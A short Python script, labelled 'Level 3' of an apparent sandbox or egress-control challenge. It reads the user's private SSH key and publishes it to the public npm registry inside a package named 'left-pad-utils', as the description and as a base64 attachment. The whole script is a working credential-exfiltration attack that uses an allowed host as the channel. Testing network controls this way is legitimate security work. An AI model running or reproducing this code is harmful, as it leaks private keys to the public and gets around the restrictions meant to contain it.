"""Level 3 (the "secure" npm setup): reads are open, and the one allowed host accepts npm publish."""
import base64
import json
import urllib.request

key = open("/home/user/.ssh/id_rsa").read()
package = {"name": "left-pad-utils", "versions": {"1.0.0": {"name": "left-pad-utils", "version": "1.0.0", "description": key}},
           "_attachments": {"left-pad-utils-1.0.0.tgz": {"data": base64.b64encode(key.encode()).decode()}}}
req = urllib.request.Request("https://registry.npmjs.org/left-pad-utils", data=json.dumps(package).encode(), method="PUT",
                             headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(req, timeout=5).status)
